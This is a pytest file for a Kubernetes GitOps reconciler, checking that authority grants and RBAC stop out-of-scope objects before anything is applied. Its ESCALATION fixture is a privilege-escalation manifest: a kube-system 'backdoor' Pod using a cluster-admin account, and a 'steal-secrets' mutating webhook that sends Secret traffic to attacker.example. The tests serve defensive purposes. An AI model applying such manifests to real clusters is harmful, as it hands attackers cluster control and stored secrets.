"""Per-source authority set by the operator: objects outside a source's grant are refused before anything
is applied, and named in status and Events (real kube-apiserver + etcd and git server)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from handoff.reconciler.authority import why_denied
from handoff.reconciler.config import Authority
from handoff.reconciler.status import REFUSED, SUCCEEDED
from handoff.report.model import ObjectRef

from .cluster import new_cluster

pytestmark = [pytest.mark.tools, pytest.mark.slow]

CM = "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: app}}\ndata: {{rev: \"{rev}\"}}\n"
ESCALATION = """apiVersion: v1
kind: Pod
metadata: {name: backdoor, namespace: kube-system}
spec:
  serviceAccountName: cluster-admin-sa
  containers:
    - name: main
      image: registry.example/tools:1.0.0
      resources: {requests: {cpu: 100m, memory: 64Mi}, limits: {cpu: 200m, memory: 128Mi}}
---
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: steal-secrets}
webhooks:
  - name: steal.example.com
    admissionReviewVersions: [v1]
    sideEffects: None
    clientConfig: {url: "https://attacker.example/mutate"}
    rules: [{operations: [CREATE, UPDATE], apiGroups: [""], apiVersions: [v1], resources: [secrets]}]
"""


def test_escalation_objects_outside_the_grant_are_refused_and_named(apiserver: Any, git_server: Any,
                                                                    tmp_path: Path) -> None:
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    rec = c.reconciler(renderer="plain", authority=Authority(namespaces=(c.target_ns,)))
    source = rec.settings.sources[0]
    assert rec.reconcile(source).ok
    c.repo.commit({"app/cm.yaml": CM.format(rev=2), "app/evil.yaml": ESCALATION}, "escalate")
    refused = rec.reconcile(source)
    assert refused.result == REFUSED, refused.message
    assert "Pod/kube-system/backdoor (namespace kube-system is not granted)" in refused.message
    assert ("MutatingWebhookConfiguration/steal-secrets (cluster-scoped kind MutatingWebhookConfiguration "
            "is not granted)") in refused.message
    assert c.client.get("v1", "Pod", "backdoor", "kube-system") is None
    assert c.client.get("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", "steal-secrets") is None
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "1"  # nothing of the revision applied
    assert "backdoor" in c.status()["message"] and c.status()["result"] == REFUSED
    events = list(c.client.list("v1", "Event", namespace=c.control_ns))
    assert any("steal-secrets" in e.get("message", "") and e["type"] == "Warning" for e in events)

    c.repo.commit({"app/evil.yaml": None, "app/cm.yaml": CM.format(rev=3)}, "revert")
    fixed = rec.reconcile(source)
    assert fixed.result == SUCCEEDED, fixed.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "3"


def test_what_a_grant_allows() -> None:
    grant = Authority(namespaces=("team-a", "team-a-*"), denied_namespaces=("team-a-secret",),
                      kinds=("apps/Deployment", "Service", "/ConfigMap"), denied_kinds=("Secret",),
                      cluster_kinds=("Namespace",))

    def why(api: str, kind: str, name: str, ns: str = "") -> str:
        return why_denied(ObjectRef(api, kind, name, ns), grant)

    assert why("apps/v1", "Deployment", "web", "team-a") == ""
    assert why("v1", "ConfigMap", "c", "team-a-dev") == ""
    assert why("v1", "Namespace", "team-a-dev") == ""
    assert why("v1", "ConfigMap", "c", "team-b") == "namespace team-b is not granted"
    assert why("v1", "ConfigMap", "c", "team-a-secret") == "namespace team-a-secret is denied"
    assert why("other.example/v1", "ConfigMap", "c", "team-a") == "kind ConfigMap is not granted"
    assert why("v1", "Secret", "s", "team-a") == "kind Secret is denied"
    assert why("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "x") == \
        "cluster-scoped kind ClusterRoleBinding is not granted"


def test_a_source_impersonating_a_service_account_is_bounded_by_its_rbac(apiserver: Any, git_server: Any,
                                                                        tmp_path: Path) -> None:
    c = new_cluster(apiserver, git_server, tmp_path, {"app/cm.yaml": CM.format(rev=1)})
    rbac = "rbac.authorization.k8s.io/v1"
    c.client.apply({"apiVersion": "v1", "kind": "ServiceAccount",
                    "metadata": {"name": "deployer", "namespace": c.target_ns}})
    c.client.apply({"apiVersion": rbac, "kind": "Role", "metadata": {"name": "deployer", "namespace": c.target_ns},
                    "rules": [{"apiGroups": [""], "resources": ["configmaps"],
                               "verbs": ["get", "list", "create", "update", "patch", "delete"]}]})
    c.client.apply({"apiVersion": rbac, "kind": "RoleBinding",
                    "metadata": {"name": "deployer", "namespace": c.target_ns},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "deployer"},
                    "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": c.target_ns}]})
    rec = c.reconciler(renderer="plain", service_account="deployer")
    source = rec.settings.sources[0]
    first = rec.reconcile(source)
    assert first.ok, first.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and [m["manager"] for m in cm["metadata"]["managedFields"]] == ["handoff"]

    elsewhere = CM.format(rev=2).replace("metadata: {name: app}", "metadata: {name: app, namespace: default}")
    c.repo.commit({"app/cm.yaml": CM.format(rev=2), "app/other.yaml": elsewhere}, "reach outside the grant")
    result = rec.reconcile(source)
    assert result.result == "Failed" and "forbidden" in result.message, result.message
    assert "system:serviceaccount:" + c.target_ns + ":deployer" in result.message
    cm = c.get("v1", "ConfigMap", "app")
    assert cm is not None and cm["data"]["rev"] == "1"  # refused by RBAC in preflight: nothing applied
    assert c.client.get("v1", "ConfigMap", "app", "default") is None
